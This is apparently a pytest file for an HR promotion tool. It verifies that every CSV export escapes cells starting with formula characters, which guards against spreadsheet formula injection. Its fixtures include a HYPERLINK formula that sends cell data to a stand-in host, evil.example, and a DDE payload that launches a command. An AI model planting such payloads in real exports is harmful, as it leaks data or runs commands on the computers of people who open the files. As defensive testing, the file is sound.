"""M7: no CSV the product writes lets a spreadsheet run a formula (issue 21).

A reason typed as ``=HYPERLINK(…)`` was written raw by ``promoflow audit export --format
csv``, and ``promoflow decisions --format csv`` wrote ids and reasons raw. Every CSV now goes
through :func:`promoflow.csvcell.csv_cell`: a cell starting (after spaces) with ``= + - @``,
tab, CR, LF or the full-width ``＝ ＋ － ＠`` gets a leading apostrophe; a plain negative
number stays a number. Columns and shapes stay those of INTERCHANGE.md.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from promoflow.console.cli import app
from promoflow.console.commands.decisions import render
from promoflow.console.web import exports
from promoflow.csvcell import FORMULA_START, csv_cell
from promoflow.engine.audit.query import EXPORT_COLUMNS
from promoflow.engine.cycles.service import EXPORT_KEYS
from tests.functional.audit_seed import CYCLE, seed_cycle

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
runner = CliRunner()


def _runs_as_formula(cell: str) -> bool:
    return (
        cell.lstrip(" \u3000")[:1] in FORMULA_START
        and not cell.lstrip("-").replace(".", "", 1).isdigit()
    )


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("  =1+1", "'  =1+1"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("-1e5", "'-1e5"),
        ("-3.", "'-3."),
        ("-", "'-"),
        # plain negative numbers stay numbers; nothing else changes
        ("-3", "-3"),
        ("-3.5", "-3.5"),
        ("E0001", "E0001"),
        ("score 86 ≥ 80 = promoted", "score 86 ≥ 80 = promoted"),
        ("", ""),
        (None, ""),
        (-2, "-2"),
        (7, "7"),
    ],
)
def test_one_rule_escapes_every_formula_start(cell, written):
    assert csv_cell(cell) == written


def test_every_csv_the_product_writes_goes_through_the_one_rule():
    """A module that writes CSV (csv.writer / DictWriter) uses csv_cell."""
    writers = []
    for folder in ("engine", "console", "scheduler", "rules", "workflow", "demo", "src"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                writers.append(path.relative_to(ROOT).as_posix())
                assert "csv_cell" in text, f"{path} writes CSV without csv_cell"
    assert {"engine/audit/query.py", "console/commands/decisions.py"} <= set(writers)


@pytest.fixture
def cycle_db(rt, db_url, tmp_path):
    seed_cycle(rt, tmp_path)
    return db_url


def test_an_override_reason_hyperlink_is_escaped_in_the_audit_csv(cycle_db, tmp_path):
    """The attack: an hr_officer writes a reason that is a formula; the auditor opens the
    CSV export in Excel. The CSV cell carries a leading quote; JSON Lines keep it exact."""
    proposed = runner.invoke(
        app,
        ["--db", cycle_db, "--actor", "olivia", "override", "block-promotion", CYCLE, "E02",
         "--reason", HYPERLINK],
    )  # fmt: skip
    assert proposed.exit_code == 0, proposed.output
    out = tmp_path / "audit.csv"
    exported = runner.invoke(
        app, ["--db", cycle_db, "audit", "export", "--format", "csv", "-o", str(out)]
    )
    assert exported.exit_code == 0, exported.output
    with out.open(encoding="utf-8", newline="") as f:
        reader = csv.reader(f)
        header = next(reader)
        rows = list(reader)
    assert tuple(header) == EXPORT_COLUMNS  # the shape is unchanged
    reasons = [dict(zip(header, r, strict=True))["reason"] for r in rows]
    assert "'" + HYPERLINK in reasons
    assert HYPERLINK not in reasons
    assert not [c for r in rows for c in r if _runs_as_formula(c)]

    jsonl = tmp_path / "audit.jsonl"
    runner.invoke(app, ["--db", cycle_db, "audit", "export", "--format", "jsonl", "-o", str(jsonl)])
    lines = [json.loads(x) for x in jsonl.read_text(encoding="utf-8").splitlines()]
    assert len(lines) == len(rows)
    assert HYPERLINK in [e["reason"] for e in lines]


def test_decisions_csv_escapes_ids_and_reasons_and_keeps_its_columns(cycle_db):
    """A legacy id stored before ids were checked, and reasons that start with a sign, are
    written escaped; the seeded cycle's export keeps INTERCHANGE.md's columns and values."""
    legacy = {
        **dict.fromkeys(EXPORT_KEYS),
        "cycle": CYCLE,
        "employee_id": "=1+1",
        "from_grade": "@S5",
        "to_grade": "S5",
        "outcome": "unchanged",
        "probation": False,
        "reasons": ["=cmd|' /C calc'!A0", "score 70 < 80"],
        "overrides": [],
    }
    (row,) = list(csv.DictReader(io.StringIO(render([legacy], "csv"))))
    assert row["employee_id"] == "'=1+1"
    assert row["from_grade"] == "'@S5"
    assert row["reasons"] == "'=cmd|' /C calc'!A0 | score 70 < 80"
    assert row["probation"] == "false" and row["review"] == ""

    exported = runner.invoke(app, ["--db", cycle_db, "decisions", CYCLE, "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    reader = csv.DictReader(io.StringIO(exported.stdout))
    rows = list(reader)
    assert tuple(reader.fieldnames) == EXPORT_KEYS
    assert [r["employee_id"] for r in rows] == [f"E0{i}" for i in range(1, 9)]
    assert not [c for r in rows for c in r.values() if _runs_as_formula(c)]


def test_the_console_downloads_use_the_same_rule():
    """The web CSV/XLSX downloads escape full-width signs too, and keep numbers numbers."""
    text = "".join(exports._csv_lines(["a", "b", "c"], [{"a": "＝1+1", "b": -3, "c": "-3.5"}]))
    assert text.splitlines()[1] == "'＝1+1,-3,-3.5"
    assert exports._cell(-3) == -3
